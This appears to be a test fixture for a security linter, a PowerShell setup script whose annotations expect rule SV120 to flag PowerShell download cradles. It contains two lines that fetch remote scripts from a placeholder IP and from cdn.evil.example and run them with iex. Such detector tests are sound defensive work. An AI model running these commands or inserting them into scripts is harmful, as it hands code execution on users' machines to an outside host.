# Windows setup
$ErrorActionPreference = "Stop"
Write-Host "Installing prerequisites..."
iex ((New-Object System.Net.WebClient).DownloadString('http://203.0.113.9/bootstrap.ps1')) # want "SV120: .*PowerShell download cradle"
irm https://cdn.evil.example/w.ps1 | iex # want "SV120: .*pipes it into iex"
